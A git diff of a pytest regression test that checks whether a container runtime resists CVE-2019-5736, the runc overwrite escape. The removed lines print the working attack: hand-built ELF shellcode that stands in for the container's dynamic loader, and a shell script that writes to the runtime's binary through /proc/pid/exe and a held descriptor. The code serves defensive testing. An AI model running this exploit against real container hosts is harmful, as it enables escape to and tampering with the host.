@@ -5,37 +5,13 @@ from __future__ import annotations
 import errno
 import os
 import platform
-import struct
 from collections import Counter
 from pathlib import Path
 
 import pytest
 
+from tests.attacker import LOADER, OVERWRITING, swap
 from tests.harness import until
-
-
-def waiting_loader() -> bytes:
-    """A program that opens /proc/self/exe for reading as descriptor 9 and waits: what an attacker puts in the place of the
-    dynamic loader, to be in control of whatever host program is executed in his container."""
-    path = b"/proc/self/exe\0"
-    code = bytes.fromhex(
-        "b802000000"  # mov eax, 2 (open)
-        "488d3d20000000"  # lea rdi, [rip + 32] (path)
-        "31f6"  # xor esi, esi
-        "0f05"  # syscall
-        "89c7"  # mov edi, eax
-        "be09000000"  # mov esi, 9
-        "b821000000"  # mov eax, 33 (dup2)
-        "0f05"  # syscall
-        "b822000000"  # mov eax, 34 (pause)
-        "0f05"  # syscall
-        "ebf7"  # jmp back to pause
-    ).ljust(0x2C, b"\x90")
-    offset, address = 0x78, 0x10000
-    body = code + path
-    header = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, offset, 64, 0, 0, 64, 56, 1, 0, 0, 0)
-    size = offset + len(body)
-    return header + struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, size, size, address) + body
 
 
 @pytest.mark.skipif(platform.machine() != "x86_64", reason="the attacker's program is written for it")
@@ -43,32 +19,14 @@ def waiting_loader() -> bytes:
 def test_the_runtimes_program_cannot_be_overwritten(daemon, name, how, tmp_path):
     """CVE-2019-5736: a program swapped for `#!/proc/self/exe` has the kernel execute the runtime's own file, with the
     container's loader; what it holds open of it then is written to. The attack comes as far as it can: to a sealed copy."""
-    folder, loader = "/lib64", "ld-linux-x86-64.so.2"
-    (tmp_path / loader).write_bytes(waiting_loader())
-    (tmp_path / loader).chmod(0o755)
-    (tmp_path / "tool").write_text("#!/proc/self/exe\n")
-    (tmp_path / "tool").chmod(0o755)
-    volumes = ["-v", f"{tmp_path}:{folder}:ro"]
+    swap(tmp_path)
+    tool, volumes = f"{LOADER.parent}/tool", ["-v", f"{tmp_path}:{LOADER.parent}:ro"]
     if how == "exec":
         daemon.docker("run", "-d", "--name", name, *volumes, "busybox", "sleep", "300")
-        daemon.docker("exec", "-d", name, f"{folder}/tool")
-        victim = "$(pidof tool || pgrep -f /tool)"
+        daemon.docker("exec", "-d", name, tool)
     else:
-        daemon.docker("run", "-d", "--name", name, *volumes, "busybox", f"{folder}/tool")
-        victim = "1"
-    # The victim runs from the runtime's file. Seen from inside, by the same root:
-    script = f"""
-        pid={victim}
-        readlink /proc/$pid/exe
-        (echo overwritten > /proc/$pid/exe) 2>/dev/null && echo WRITTEN while it runs
-        exec 8</proc/$pid/fd/9
-        readlink /proc/self/fd/8
-        [ $pid = 1 ] || kill -9 $pid
-        for try in 1 2 3; do (echo overwritten > /proc/self/fd/8) 2>/dev/null && echo WRITTEN; sleep 0.1; done
-        (echo overwritten >> /proc/self/fd/8) 2>/dev/null && echo WRITTEN; true
-    """
-    until(lambda: victim == "1" or daemon.docker("top", name).count("tool"), what="the attacker's program in control")
-    out = daemon.docker("exec", name, "sh", "-c", script)
+        daemon.docker("run", "-d", "--name", name, *volumes, "busybox", tool)
+    out = daemon.docker("exec", name, "sh", "-c", OVERWRITING)
     assert out.split() == ["/memfd:wharfie-python", "(deleted)"] * 2, out
     assert daemon.docker("run", "--rm", "busybox", "echo", "well") == "well"
 
